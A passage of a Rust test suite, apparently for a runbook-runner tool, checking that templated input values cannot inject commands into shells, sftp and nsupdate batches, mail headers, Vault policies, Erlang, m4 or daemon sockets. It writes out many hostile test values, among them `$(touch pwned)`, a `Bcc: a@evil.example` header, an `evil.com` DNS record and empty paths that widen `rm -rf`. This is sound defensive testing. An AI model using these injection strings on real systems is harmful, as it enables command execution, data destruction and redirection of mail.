            "body of a mail message",
            "web-1 is full\nsee ~/logs",
            "mail",
            "[-s][disk full][ops@example.com]\nweb-1 is full\nsee ~/logs\n",
        ),
    ];
    let hostiles: Vec<[&str; 1]> = cases.iter().map(|c| [c.1]).collect();
    let cases: Vec<ReaderCase> = cases
        .iter()
        .zip(&hostiles)
        .map(|((run, _, says, ordinary, program, given), hostile)| {
            (
                &READERS[..],
                run.as_str(),
                &hostile[..],
                *says,
                *ordinary,
                *program,
                *given,
            )
        })
        .collect();
    refused_then_read(&cases);
}

/// Review of issue 10's last stop: a bracketed IPv6 client of `hosts.allow` arrives as
/// written, a `:` outside brackets is refused; a batch file the step writes from the value
/// and gives a program on its input (`sftp h < b.txt`, `nsupdate < upd.txt`, `mail … <
/// body`) is held as that program's commands; one rule for a Vault policy's paths (`*`,
/// `+`, `?`); `heirloom-mailx -t` and `nail -t` read headers; a value that is a whole line
/// of an nsupdate or sftp batch, or a glob in sftp's `rm`, is refused. Each hostile value is
/// refused before any fake runs, with the words `says`; the ordinary one reaches `program`
/// byte for byte (every program a fake reader first on the PATH).
#[test]
fn values_in_batch_files_hosts_rules_and_mail_headers_stay_data() {
    let cases: &[ReaderCase] = &[
        (
            &["tee"],
            r#"echo "sshd: {{ inputs.v }}" | tee -a /etc/hosts.allow"#,
            &[
                "[2001:db8::5]:spawn(touch${IFS}/tmp/pwned)",
                "2001:db8::5",
                "[::1],ALL",
            ],
            "hosts.allow",
            "[2001:db8::5]",
            "tee",
            "[-a][/etc/hosts.allow]\nsshd: [2001:db8::5]\n",
        ),
        (
            &["tee"],
            r#"echo "sshd: {{ inputs.v }}" | tee -a /etc/hosts.deny"#,
            &["[2001:db8::]/32:twist /bin/id"],
            "hosts.allow",
            "[2001:db8::]/32",
            "tee",
            "[-a][/etc/hosts.deny]\nsshd: [2001:db8::]/32\n",
        ),
        (
            &["sftp"],
            "echo \"put {{ inputs.v }} /srv/in/\" > \"$OUT/b.txt\"\nsftp backup@db-1 < \"$OUT/b.txt\"",
            &[
                "x /srv/in/\n!touch /tmp/pwned",
                "x /home/u/.ssh/authorized_keys",
            ],
            "sftp",
            "backup-2026-12-07.tar.gz",
            "sftp",
            "[backup@db-1]\nput backup-2026-12-07.tar.gz /srv/in/\n",
        ),
        (
            &["nsupdate"],
            "printf 'update add %s.example.com 300 A 10.0.0.1\\nsend\\n' \"{{ inputs.v }}\" > \"$OUT/upd.txt\"\nnsupdate -k /etc/k.key < \"$OUT/upd.txt\"",
            &["x\nupdate delete example.com", "evil.com. 300 A 6.6.6.6 ;"],
            "`nsupdate`",
            "web-1",
            "nsupdate",
            "[-k][/etc/k.key]\nupdate add web-1.example.com 300 A 10.0.0.1\nsend\n",
        ),
        (
            &["mail"],
            "cat > \"$OUT/body\" <<EOF\nDisk full on {{ inputs.v }}\nEOF\nmail -s \"disk full\" ops@example.com < \"$OUT/body\"",
            &["web-1\n~!touch /tmp/pwned"],
            "has a line starting with `~`",
            "web-1\nsee ~/logs",
            "mail",
            "[-s][disk full][ops@example.com]\nDisk full on web-1\nsee ~/logs\n",
        ),
        (
            &["vault"],
            r#"vault write sys/policy/app policy='path "secret/data/{{ inputs.v }}" { capabilities = ["read"] }'"#,
            &["*", "app/+", "app/?"],
            "quoted string of a Vault policy",
            "app/db",
            "vault",
            "[write][sys/policy/app][policy=path \"secret/data/app/db\" { capabilities = [\"read\"] }]\n",
        ),
        (
            &["heirloom-mailx"],
            "heirloom-mailx -t <<EOF\nTo: ops@example.com\nSubject: [incident] {{ inputs.v }}\n\nbody\nEOF",
            &["x\nBcc: a@evil.example"],
            "header",
            "disk full",
            "heirloom-mailx",
            "[-t]\nTo: ops@example.com\nSubject: [incident] disk full\n\nbody\n",
        ),
        (
            &["nail"],
            "nail -t <<EOF\nTo: ops@example.com\nSubject: [incident] {{ inputs.v }}\n\nbody\nEOF",
            &["x\nBcc: a@evil.example"],
            "header",
            "disk full",
            "nail",
            "[-t]\nTo: ops@example.com\nSubject: [incident] disk full\n\nbody\n",
        ),
        (
            &["nsupdate"],
            "nsupdate <<EOF\nupdate delete old.example.com A\n{{ inputs.v }}\nupdate add new.example.com 300 A 10.0.0.1\nsend\nEOF",
            &["send", "quit"],
            "`send` sends the changes",
            "",
            "",
            "",
        ),
        (
            &["sftp"],
            "sftp -b - backup@db-1 <<EOF\n{{ inputs.v }}\nput /var/backups/x.tgz /srv/in/\nEOF",
            &["bye", "quit"],
            "`bye` or `quit` ends the batch",
            "pwd",
            "sftp",
            "[-b][-][backup@db-1]\npwd\nput /var/backups/x.tgz /srv/in/\n",
        ),
        (
            &["sftp"],
            "sftp -b - backup@db-1 <<EOF\nrm /srv/in/{{ inputs.v }}\nEOF",
            &["*", "x?", "[a-z]*"],
            "would pick every file",
            "backup-2026-12-07.tar.gz",
            "sftp",
            "[-b][-][backup@db-1]\nrm /srv/in/backup-2026-12-07.tar.gz\n",
        ),
    ];
    refused_then_read(cases);
}

/// The programs first on the PATH (each a [`fake_reader`]), a step, hostile values, words
/// one of which the refusal says, an ordinary value, the program given it (empty: none is
/// checked) and what that program is given.
type ReaderCase<'a> = (
    &'a [&'a str],
    &'a str,
    &'a [&'a str],
    &'a str,
    &'a str,
    &'a str,
    &'a str,
);

/// Runs each case: every hostile value is refused before any fake runs, saying `says`; the
/// ordinary one reaches `program` byte for byte.
fn refused_then_read(cases: &[ReaderCase]) {
    let mut wrong = Vec::new();
    for (fakes, run, hostiles, says, ordinary, program, given) in cases {
        let rb = runbook_of(&[("s", run.to_string())]);
        for hostile in *hostiles {
            let (o, got) = run_step(&rb, fakes, fake_reader, &[], hostile);
            if o.code == 0 || !o.stderr.contains(says) || got.iter().any(|(_, g)| g.is_some()) {
                wrong.push(format!(
                    "{run} with {hostile:?}: code {}, ran {got:?}\n{}",
                    o.code, o.stderr
                ));
            }
        }
        if program.is_empty() {
            continue;
        }
        let (o, got) = run_step(&rb, fakes, fake_reader, &[], ordinary);
        let got = got
            .iter()
            .find(|(n, _)| n == program)
            .and_then(|(_, g)| g.clone());
        if o.code != 0 || got.as_deref() != Some(*given) {
            wrong.push(format!(
                "{run} with {ordinary:?}: code {}, {program} given {got:?}\n{}",
                o.code, o.stderr
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

/// A program first on the PATH that appends its arguments to `$OUT/NAME`, one call a line.
fn appending_fake(t: &Test, name: &str) -> std::path::PathBuf {
    write_fake(
        t,
        name,
        &format!("#!/bin/sh\nprintf '[%s]' \"$@\" >> \"$OUT/{name}\"\necho >> \"$OUT/{name}\"\n"),
    )
}

/// `t` with an [`appending_fake`] `name` first on its PATH, and the folder `$OUT` where it
/// writes.
fn with_appending_fake(t: Test, name: &str) -> (Test, std::path::PathBuf) {
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let bin = appending_fake(&t, name);
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    (t.env("OUT", out.to_str().unwrap()).env("PATH", &path), out)
}

/// A `dir:` written from a value is the folder the script starts in: checked as a `cd "…"`
/// at its start is, before anything runs (audit 40 A40-1: `rm -rf ./*` in
/// `releases/{{ v }}` with an empty value or `..` emptied the releases or their parent).
#[test]
fn a_value_ending_the_path_of_dir_is_checked_as_a_cd_is() {
    let rb = "title: d\ninputs:\n  v: {description: release}\nsteps:\n  - id: s\n    title: clean one release\n    dangerous: true\n    confirm: clean it\n    dir: \"releases/{{ inputs.v }}\"\n    run: |\n      rm -rf ./*\n";
    dir_is_checked_as_a_cd(rb);
}

/// A value in `on:` may not name the inventory's group of every host (`all`, `ungrouped`):
/// refused before any host is reached (audit 40 A40-2). The runbook may write `on: all`.
#[test]
fn a_value_in_on_may_not_name_every_host() {
    let rb = "title: h\ninventory: hosts.ini\ninputs:\n  host: {description: one web host}\nsteps:\n  - id: s\n    title: restart on one host\n    on: \"{{ inputs.host }}\"\n    run: |\n      systemctl restart nginx\n";
    for (value, refused) in [("all", true), ("ungrouped", true), ("web-1", false)] {
        let t = Test::new().file("runbooks/rb.yaml", rb).file(
            "runbooks/hosts.ini",
            "bastion\n[web]\nweb-1\nweb-2\n[db]\ndb-1\n",
        );
        let (t, out) = with_appending_fake(t, "ssh");
        let input = format!("host={value}");
        let o = t.exec(&["run", "rb", "--yes", "--input", &input]);
        let ssh = std::fs::read_to_string(out.join("ssh")).unwrap_or_default();
        if refused {
            assert_ne!(o.code, 0, "{value}: {}", o.stderr);
            assert!(
                o.stderr
                    .contains(&format!("names `{value}`, written from a value")),
                "{value}: {}",
                o.stderr
            );
            assert!(
                !ssh.contains("web-") && !ssh.contains("db-1") && !ssh.contains("bastion"),
                "{value}: {ssh}"
            );
        } else {
            assert!(ssh.contains("web-1"), "{value}: {ssh}\n{}", o.stderr);
            assert!(!ssh.contains("web-2") && !ssh.contains("db-1"), "{ssh}");
        }
    }
}

/// What `pgrep`, `grep -c` or `wc -l` prints is only numbers, also kept in a variable and
/// used in a string another shell parses, and after `|| true` (audit 40 A40-11: refused at
/// run and by lint's RB031 for any value).
#[test]
fn a_count_or_pid_found_from_a_value_is_a_number_in_a_remote_command() {
    for script in [
        "pid=$(pgrep -o -f \"{{ inputs.v }}\")\nssh web-1 \"echo kill $pid\"",
        "n=$(pgrep -f \"{{ inputs.v }}\" | wc -l)\nssh web-1 \"echo $n running\"",
        "pid=$(pgrep -f \"{{ inputs.v }}\" || true)\nssh web-1 \"echo kill ${pid:-none}\"",
        "count=$(grep -c \"{{ inputs.v }}\" /etc/hostname || true)\nssh web-1 \"echo seen $count times\"",
    ] {
        let rb = format!(
            "title: n\ninputs:\n  v: {{description: a process}}\nsteps:\n  - id: s\n    title: find here, act there\n    run: |\n{}\n",
            script
                .lines()
                .map(|l| format!("      {l}"))
                .collect::<Vec<_>>()
                .join("\n")
        );
        let t = Test::new().file("runbooks/rb.yaml", &rb);
        let lint = t.exec(&["lint", "--no-shellcheck", "runbooks/rb.yaml"]);
        assert!(!lint.stdout.contains("RB031"), "{script}\n{}", lint.stdout);
        let (t, out) = with_appending_fake(t, "ssh");
        let o = t.exec(&[
            "run",
            "rb",
            "--yes",
            "--input",
            "v=worker --queue=emails -D",
        ]);
        o.code(0);
        let ssh = std::fs::read_to_string(out.join("ssh")).unwrap_or_default();
        assert!(ssh.starts_with("[web-1]"), "{script}: {ssh}");
    }
}

/// A `wait` step's check runs in its `dir:` as a `run` does: a value ending the path of a
/// templated `dir:` is checked as a `cd "…"` at the start of `wait.run`, before any check
/// runs (`rm -rf ./*` in `releases/{{ v }}` with `..` would empty the releases' parent).
#[test]
fn a_value_ending_the_path_of_a_waits_dir_is_checked_as_a_cd_is() {
    let rb = "title: d\ninputs:\n  v: {description: release}\nsteps:\n  - id: s\n    title: clean until empty\n    dangerous: true\n    confirm: clean it\n    dir: \"releases/{{ inputs.v }}\"\n    wait:\n      run: rm -rf ./*\n      until: \"true\"\n      interval: 1s\n      timeout: 5s\n";
    dir_is_checked_as_a_cd(rb);
}

/// The `dir:` check reads the script in the step's own `shell:`: the code of a shell that
/// is not POSIX (`[python3, -c]`) is not read as shell text, so an ordinary value runs there
/// in its folder, and an empty one, `.` or `..` is still refused as the `cd` alone.
#[test]
fn a_templated_dir_is_checked_in_the_steps_own_shell() {
    let rb = "title: d\ninputs:\n  v: {description: release}\nsteps:\n  - id: s\n    title: where am I\n    shell: [python3, -c]\n    dir: \"releases/{{ inputs.v }}\"\n    run: |\n      import os; print(\"in:\", os.path.basename(os.getcwd()))\n";
    for (value, refused) in [("r1", false), ("..", true)] {
        let t = Test::new()
            .file("runbooks/rb.yaml", rb)
            .file("runbooks/releases/r1/keep", "x");
        let input = format!("v={value}");
        let o = t.exec(&["run", "rb", "--yes", "--input", &input]);
        if refused {
            assert_ne!(o.code, 0, "{value:?}: {}", o.stderr);
            assert!(!o.stdout.contains("in:"), "{value:?}: {}", o.stdout);
            assert!(o.stderr.contains("`dir:` of step `s`"), "{}", o.stderr);
        } else {
            assert_eq!(o.code, 0, "{value:?}: {}", o.stderr);
            assert!(o.stdout.contains("in: r1"), "{}", o.stdout);
        }
    }
}

/// `consul exec -node`/`-service`/`-tag` take a regular expression over names (`.` is every
/// node): a value there is judged as a host pattern, refused before consul runs when it
/// would pick most nodes; its command stays a command each node's shell parses, where a
/// value arrives byte for byte.
#[test]
fn a_value_in_consul_execs_node_filter_is_a_host_pattern() {
    for (run, value, refused) in [
        ("consul exec -node \"{{ inputs.v }}\" uptime", ".", true),
        (
            "consul exec -service api -tag=\"{{ inputs.v }}\" uptime",
            "",
            true,
        ),
        (
            "consul exec -service \"{{ inputs.v }}\" uptime",
            "web|db",
            true,
        ),
        (
            "consul exec -node \"{{ inputs.v }}\" uptime",
            "web-1",
            false,
        ),
    ] {
        let rb = runbook_of(&[("s", run.to_string())]);
        let (o, given) = run_step(&rb, &["consul"], fake_program, &[], value);
        let consul = given[0].1.clone();
        if refused {
            assert_ne!(o.code, 0, "{run} with {value:?}");
            assert!(consul.is_none(), "{run}: {consul:?}");
            assert!(o.stderr.contains("consul exec"), "{run}: {}", o.stderr);
        } else {
            assert_eq!(o.code, 0, "{run}: {}", o.stderr);
            assert!(
                consul
                    .as_deref()
                    .is_some_and(|c| c.contains("[-node][web-1][uptime]")),
                "{run}: {consul:?}"
            );
        }
    }
    // The command a node's shell runs (here a fake consul runs it with sh).
    let t = Test::new().file(
        "runbooks/rb.yaml",
        &runbook_of(&[(
            "s",
            "consul exec -node web-1 -wait 2s \"printf '[%s]' {{ inputs.v }}\"".to_string(),
        )]),
    );
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let bin = write_fake(
        &t,
        "consul",
        "#!/bin/sh\nfor a; do last=$a; done\nsh -c \"$last\" > \"$OUT/said\"\n",
    );
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let t = t.env("OUT", out.to_str().unwrap()).env("PATH", &path);
    let value = "a'b\"c $(touch \"$OUT/pwned\") `id` ; \\ -x";
    let input = format!("v={value}");
    let o = t.exec(&["run", "rb", "--yes", "--input", &input]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("said")).ok().as_deref(),
        Some(format!("[{value}]").as_str())
    );
    assert!(!out.join("pwned").exists());
}

/// Runs the one step `run` with `value`, with a fake of each of `fakes` first on the PATH
/// (each writes its arguments to `$OUT/NAME` and runs nothing): the run's output and what
/// each fake was given.
fn run_faked(
    run: &str,
    fakes: &[&str],
    value: &str,
) -> (common::Output, Vec<(String, Option<String>)>) {
    run_step(
        &runbook_of(&[("s", run.to_string())]),
        fakes,
        fake_program,
        &[],
        value,
    )
}

/// Each `(run, fake, hostile, ordinary, given)`: the hostile value is refused before any
/// fake runs; the ordinary one reaches the fake byte for byte.
fn refused_or_given(cases: &[(&str, &str, &str, &str, &str)]) {
    for (run, fake, hostile, ordinary, given) in cases {
        let (o, got) = run_faked(run, &[fake], hostile);
        assert_ne!(o.code, 0, "{run} took {hostile:?}");
        assert!(got.iter().all(|(_, g)| g.is_none()), "{run}: {got:?}");
        let (o, got) = run_faked(run, &[fake], ordinary);
        assert_eq!(o.code, 0, "{run} with {ordinary:?}: {}", o.stderr);
        assert_eq!(got[0].1.as_deref(), Some(*given), "{run}");
    }
}

/// Audit 41 A41-11: `rabbitmqctl eval` is Erlang, not the shell's `eval`: the usual line
/// runs with a queue's name, which arrives as it is; a value ending its string, or given to
/// `os:cmd`, is refused. Another program's `eval` subcommand gets the value unquoted.
#[test]
fn an_eval_subcommand_is_its_programs_own_language() {
    refused_or_given(&[
        (
            r#"rabbitmqctl eval 'rabbit_amqqueue:internal_delete({resource,<<"/">>,queue,<<"{{ inputs.v }}">>}, <<"cli">>).'"#,
            "rabbitmqctl",
            "x\">>}), os:cmd(\"touch pwned\"), ({<<\"",
            "orders",
            r#"[eval][rabbit_amqqueue:internal_delete({resource,<<"/">>,queue,<<"orders">>}, <<"cli">>).]"#,
        ),
        (
            r#"rabbitmqctl eval 'os:cmd("echo {{ inputs.v }}").'"#,
            "rabbitmqctl",
            "$(touch pwned)",
            "orders",
            r#"[eval][os:cmd("echo orders").]"#,
        ),
    ]);
    // `nix eval`'s words are nix's, not a shell's to parse again: they arrive as written.
    let run = r#"nix eval --raw ".#packages.x86_64-linux.{{ inputs.v }}.version""#;
    for value in ["hello", "$(touch pwned)"] {
        let (o, got) = run_faked(run, &["nix"], value);
        assert_eq!(o.code, 0, "{value}: {}", o.stderr);
        let given = format!("[eval][--raw][.#packages.x86_64-linux.{value}.version]");
        assert_eq!(got[0].1.as_deref(), Some(given.as_str()));
    }
}

/// Audit 41 A41-10: code behind a launcher (`poetry run`, `gosu`, `chrt`, `bundle exec`…)
/// is read as its interpreter reads it: a value that would end its string is refused, an
/// ordinary one arrives as it is.
#[test]
fn code_behind_a_launcher_is_its_languages_code() {
    let python = "x'); import os; os.system('touch pwned'); print('";
    let launched: Vec<(String, &str)> = [
        ("poetry run", "poetry"),
        ("uv run", "uv"),
        ("pipenv run", "pipenv"),
        ("conda run -n ops", "conda"),
        ("pyenv exec", "pyenv"),
        ("mise exec --", "mise"),
        ("direnv exec /srv/app", "direnv"),
        ("aws-vault exec prod --", "aws-vault"),
        ("op run --", "op"),
        ("gosu app", "gosu"),
        ("dumb-init --", "dumb-init"),
        ("chrt -i 0", "chrt"),
    ]
    .iter()
    .map(|(l, fake)| {
        (
            format!(r#"{l} python3 -c "print('{{{{ inputs.v }}}}')""#),
            *fake,
        )
    })
    .collect();
    for (run, fake) in &launched {
        let (run, fake) = (run.as_str(), *fake);
        let (o, got) = run_faked(run, &[fake], python);
        assert_ne!(o.code, 0, "{run}");
        assert!(o.stderr.contains("Python"), "{run}: {}", o.stderr);
        assert!(got[0].1.is_none(), "{run}: {got:?}");
        let (o, got) = run_faked(run, &[fake], "alice");
        assert_eq!(o.code, 0, "{run}: {}", o.stderr);
        assert!(
            got[0]
                .1
                .as_deref()
                .is_some_and(|g| g.ends_with("[python3][-c][print('alice')]")),
            "{run}: {got:?}"
        );
    }
    refused_or_given(&[
        (
            r#"bundle exec rails runner 'User.find_by(email: "{{ inputs.v }}").unlock_access!'"#,
            "bundle",
            "x#{`touch pwned`}",
            "alice",
            r#"[exec][rails][runner][User.find_by(email: "alice").unlock_access!]"#,
        ),
        (
            r#"bundle exec ruby -e 'puts "{{ inputs.v }}"'"#,
            "bundle",
            "x\"; system(\"touch pwned\"); \"",
            "alice",
            r#"[exec][ruby][-e][puts "alice"]"#,
        ),
        (
            r#"php artisan tinker --execute='User::where("email", "{{ inputs.v }}")->first();'"#,
            "php",
            "x\"); system(\"touch pwned\"); (\"",
            "alice",
            r#"[artisan][tinker][--execute=User::where("email", "alice")->first();]"#,
        ),
    ]);
}

/// Audit 41 A41-9: m4 and dc run a shell from their text (`esyscmd(…)`, `!`): a value that
/// would call a macro or start a shell command is refused there, on the command line and on
/// the input; an ordinary one arrives as it is.
#[test]
fn a_value_in_m4_or_dc_text_may_not_run_a_shell() {
    refused_or_given(&[
        (
            r#"m4 -DRELAY="{{ inputs.v }}" tmpl.m4"#,
            "m4",
            "esyscmd(touch pwned)",
            "relay.example.com",
            "[-DRELAY=relay.example.com][tmpl.m4]",
        ),
        (
            // (`|| true`: the fake reads no input, so `cat` may die of SIGPIPE.)
            r#"echo "define(HOST, {{ inputs.v }})dnl" | cat - /dev/null | m4 || true"#,
            "m4",
            "esyscmd(touch pwned)",
            "relay.example.com",
            "[]",
        ),
        (
            r#"dc -e "{{ inputs.v }} 1024 / p""#,
            "dc",
            "1\n!touch pwned\n2",
            "2048",
            "[-e][2048 1024 / p]",
        ),
        (
            r#"echo "{{ inputs.v }} 1024 / p" | dc || true"#,
            "dc",
            "!touch pwned",
            "2048",
            "[]",
        ),
    ]);
}

/// Audit 41 A41-6: what `socat`, `nc` or `telnet` send is the peer's command language: a
/// value may not add a line there, nor, for HAProxy's runtime API, a `;` command.
#[test]
fn a_value_sent_to_a_daemons_command_socket_adds_no_command() {
    refused_or_given(&[
        (
            r#"echo "disable server app-backend/{{ inputs.v }}" | socat stdio /run/haproxy/admin.sock"#,
            "socat",
            "web1; disable server app-backend/web2",
            "web1",
            "[stdio][/run/haproxy/admin.sock]",
        ),
        (
            r#"echo "disable server app-backend/{{ inputs.v }}" | nc -U /run/haproxy/admin.sock"#,
            "nc",
            "web1\nshutdown sessions server app-backend/web2",
            "web1",
            "[-U][/run/haproxy/admin.sock]",
        ),
        (
            r#"printf "DEL %s\r\n" "{{ inputs.v }}" | nc -q1 redis-1 6379"#,
            "nc",
            "session:42\r\nFLUSHALL",
            "session:42",
            "[-q1][redis-1][6379]",
        ),
    ]);
}

/// Audit 41 A41-5: a value that only selects what a command substitution prints (a pod's
/// node, a host's address) leaves a variable of unknown origin, checked when the step runs,
/// not an error: the usual "look it up, then ssh there" runs with a name, and lint says no
/// RB031; a value that is not plain words is still refused before anything runs.
#[test]
fn a_lookup_by_the_value_then_ssh_to_the_result_runs() {
    for run in [
        "NODE=$(kubectl get pod \"{{ inputs.v }}\" -o jsonpath=\"{.spec.nodeName}\")\nssh \"$NODE\" uptime",
        "H=$(kubectl get pod \"{{ inputs.v }}\" -o name)\nssh -- \"$H\" uptime",
        "H=$(kubectl get pod \"{{ inputs.v }}\" -o name)\nssh \"ops@$H\" uptime",
    ] {
        let rb = runbook_of(&[("s", run.to_string())]);
        let t = Test::new().file("runbooks/rb.yaml", &rb);
        let lint = t.exec(&["lint", "--no-shellcheck", "runbooks/rb.yaml"]);
        assert!(!lint.stdout.contains("RB031"), "{run}\n{}", lint.stdout);
        let (o, got) = run_faked(run, &["kubectl", "ssh"], "api-1");
        assert_eq!(o.code, 0, "{run}: {}", o.stderr);
        assert!(
            got[0].1.as_deref().is_some_and(|g| g.contains("[api-1]")),
            "{run}: {got:?}"
        );
        assert!(
            got[1].1.as_deref().is_some_and(|g| g.ends_with("[uptime]")),
            "{run}: {got:?}"
        );
        // Refused before anything runs, or given to kubectl as it is.
        let (o, got) = run_faked(run, &["kubectl", "ssh"], "api-1; touch pwned");
        if o.code == 0 {
            assert!(
                got[0]
                    .1
                    .as_deref()
                    .is_some_and(|g| g.contains("[api-1; touch pwned]")),
                "{run}: {got:?}"
            );
        } else {
            assert!(got.iter().all(|(_, g)| g.is_none()), "{run}: {got:?}");
        }
    }
}

/// A runbook whose input `v` is given to its one dangerous step `s` as `$V` (`env: V`), the
/// step running `run`.
fn env_runbook(run: &str) -> String {
    let block: String = run.lines().map(|l| format!("      {l}\n")).collect();
    format!(
        "title: e\ninputs:\n  v: {{description: the value, env: V}}\nsteps:\n  - id: s\n    title: s\n    dangerous: true\n    confirm: go ahead\n    run: |\n{block}"
    )
}

/// Audit 41 A41-17: a value given in the environment (an input's `env:`, a step's templated
/// `env:` with `templates: false`, `$RUNBOOK_ENV`) meets the widening rules where the script
/// expands it, as a `{{ }}` written there does: refused before anything runs (every program a
/// fake first on the PATH); the plainly safe value reaches the program.
#[test]
fn a_value_in_the_environment_that_would_widen_a_command_is_refused() {
    let templated = "title: e\ninputs:\n  v: {description: the value}\nsteps:\n  - id: s\n    title: s\n    dangerous: true\n    confirm: go ahead\n    templates: false\n    env:\n      V: \"{{ inputs.v }}\"\n    run: |\n      rm -rf \"/srv/releases/$V\"\n".to_string();
    let written = "title: e\ninputs:\n  v: {description: the value}\nsteps:\n  - id: w\n    title: w\n    readonly: true\n    run: |\n      echo \"V={{ inputs.v }}\" >> \"$RUNBOOK_ENV\"\n  - id: s\n    title: s\n    dangerous: true\n    confirm: go ahead\n    run: |\n      rm -rf \"/srv/releases/$V\"\n".to_string();
    for (fake, rb, hostiles, ordinary, given) in [
        (
            "rm",
            env_runbook("rm -rf \"/srv/releases/$V\""),
            &["", ".", "/", ".."][..],
            "r1",
            "[-rf][/srv/releases/r1]",
        ),
        ("rm", templated, &["", "."], "r1", "[-rf][/srv/releases/r1]"),
        ("rm", written, &[""], "r1", "[-rf][/srv/releases/r1]"),
        (
            "rm",
            env_runbook("del() { rm -rf \"/srv/releases/$1\"; }\ndel \"$V\""),
            &[""],
            "r1",
            "[-rf][/srv/releases/r1]",
        ),
        (
            "pkill",
            env_runbook("pkill -f -- \"$V\""),
            &[".", ""],
            "queue-worker --queue=emails",
            "[-f][--][queue-worker --queue=emails]",
        ),
        (
            "iptables",
            env_runbook("iptables -A INPUT -s \"$V\" -j ACCEPT"),
            &["0.0.0.0/0", "any"],
            "10.1.2.3",
            "[-A][INPUT][-s][10.1.2.3][-j][ACCEPT]",
        ),
        (
            "systemctl",
            env_runbook("systemctl stop \"$V\""),
            &["system.slice", "*"],
            "nginx.service",
            "[stop][nginx.service]",
        ),
        (
            "ansible",
            env_runbook("ansible \"$V\" -m reboot"),
            &["all"],
            "web-1",
            "[web-1][-m][reboot]",
        ),
        (
            "kubectl",
            env_runbook("kubectl delete pods -l \"$V\""),
            &["!nothing"],
            "app=web",
            "[delete][pods][-l][app=web]",
        ),
    ] {
        for hostile in hostiles {
            let (o, ran) = run_step(&rb, &[fake], fake_program, &["--confirm", "s"], hostile);
            assert_ne!(o.code, 0, "{rb}\nwith {hostile:?}: {}", o.stderr);
            assert!(
                o.stderr.contains("`$V`") && o.stderr.contains("step's environment"),
                "{rb}\nwith {hostile:?}: {}",
                o.stderr
            );
            assert_eq!(ran[0].1, None, "{rb}\nwith {hostile:?}");
        }
        let (o, ran) = run_step(&rb, &[fake], fake_program, &["--confirm", "s"], ordinary);
        assert_eq!(o.code, 0, "{rb}\nwith {ordinary:?}: {}", o.stderr);
        assert_eq!(ran[0].1.as_deref(), Some(given), "{rb}");
    }
}

/// Audit 41 A41-7, A41-18: an empty value ending the folder that `find` or `ls` lists for a
/// deleter (`| xargs rm`, `| while read -r f; do rm`, `-exec truncate`), or that `builtin
/// cd`, `command cd` or `git -C` enters before deleting, is refused before anything runs;
/// an ordinary value reaches the program (every one a fake first on the PATH).
#[test]
fn an_empty_value_ending_what_a_listing_or_entered_folder_deletes_is_refused() {
    for (fakes, run, hostiles, ordinary, program, given) in [
        (
            &["ls", "rm"][..],
            "ls -d /srv/logs/{{ inputs.v }}* | xargs rm -rf",
            &["", "/"][..],
            "app-",
            "ls",
            "[-d][/srv/logs/app-*]",
        ),
        (
            &["find", "rm"],
            "find \"/srv/logs/{{ inputs.v }}\" -name \"*.gz\" -print0 | xargs -0 -r rm -f",
            &["", "."],
            "app",
            "find",
            "[/srv/logs/app][-name][*.gz][-print0]",
        ),
        (
            &["find", "rm"],
            "find \"/srv/logs/{{ inputs.v }}\" -type f -print | while read -r f; do rm -f \"$f\"; done",
            &[""],
            "app",
            "find",
            "[/srv/logs/app][-type][f][-print]",
        ),
        (
            &["find"],
            "find \"/srv/logs/{{ inputs.v }}\" -type f -exec truncate -s 0 {} +",
            &[""],
            "app",
            "find",
            "[/srv/logs/app][-type][f][-exec][truncate][-s][0][{}][+]",
        ),
        (
            &["rm"],
            "builtin cd \"/{{ inputs.v }}\" && rm -rf -- nothing-here",
            &[""],
            "tmp",
            "rm",
            "[-rf][--][nothing-here]",
        ),
        (
            &["rm"],
            "command cd \"/{{ inputs.v }}\" && rm -rf -- nothing-here",
            &[""],
            "tmp",
            "rm",
            "[-rf][--][nothing-here]",
        ),
        (
            &["git"],
            "git -C \"/srv/repos/app/{{ inputs.v }}\" clean -fdx",
            &["", "."],
            "sub",
            "git",
            "[-C][/srv/repos/app/sub][clean][-fdx]",
        ),
    ] {
        for hostile in hostiles {
            let (o, ran) = run_with_these_fakes(fakes, run, hostile);
            assert_ne!(o.code, 0, "{run} with {hostile:?}");
            assert!(
                o.stderr.contains("it ends the path"),
                "{run} with {hostile:?}: {}",
                o.stderr
            );
            assert!(
                ran.iter().all(|(_, given)| given.is_none()),
                "{run} with {hostile:?}: {ran:?}"
            );
        }
        let (o, ran) = run_with_these_fakes(fakes, run, ordinary);
        assert_eq!(o.code, 0, "{run}: {}", o.stderr);
        let got = ran
            .iter()
            .find(|(n, _)| n == program)
            .and_then(|(_, g)| g.clone());
        assert_eq!(got.as_deref(), Some(given), "{run}");
    }
}

/// Audit 41 A41-8: an empty namespace, context or project of a command that deletes falls
/// back to the current default, and `all`, `0/0` or `default` is every route that `ip route
/// flush` flushes: refused before anything runs; an ordinary value reaches the program.
#[test]
fn an_empty_scope_or_a_flush_of_everything_is_refused() {
    for (fake, run, hostiles, ordinary, given) in [
        (
            "kubectl",
            "kubectl delete pods --all -n \"{{ inputs.v }}\"",
            &["", " "][..],
            "payments",
            "[delete][pods][--all][-n][payments]",
        ),
        (
            "kubectl",
            "kubectl --context \"{{ inputs.v }}\" -n payments delete deployment checkout",
            &[""],
            "staging",
            "[--context][staging][-n][payments][delete][deployment][checkout]",
        ),
        (
            "helm",
            "helm uninstall checkout -n \"{{ inputs.v }}\"",
            &[""],
            "payments",
            "[uninstall][checkout][-n][payments]",
        ),
        (
            "gcloud",
            "gcloud compute instances delete web-1 --project \"{{ inputs.v }}\" --quiet",
            &[""],
            "acme-staging",
            "[compute][instances][delete][web-1][--project][acme-staging][--quiet]",
        ),
        (
            "ip",
            "ip route flush table \"{{ inputs.v }}\"",
            &["all"],
            "100",
            "[route][flush][table][100]",
        ),
        (
            "ip",
            "ip route flush \"{{ inputs.v }}\"",
            &["0/0", "default"],
            "10.9.0.0/16",
            "[route][flush][10.9.0.0/16]",
        ),
    ] {
        for hostile in hostiles {
            let (o, ran) = run_with_these_fakes(&[fake], run, hostile);
            assert_ne!(o.code, 0, "{run} with {hostile:?}");
            assert!(
                o.stderr.contains("is empty") || o.stderr.contains("is `"),
                "{run} with {hostile:?}: {}",
                o.stderr
            );
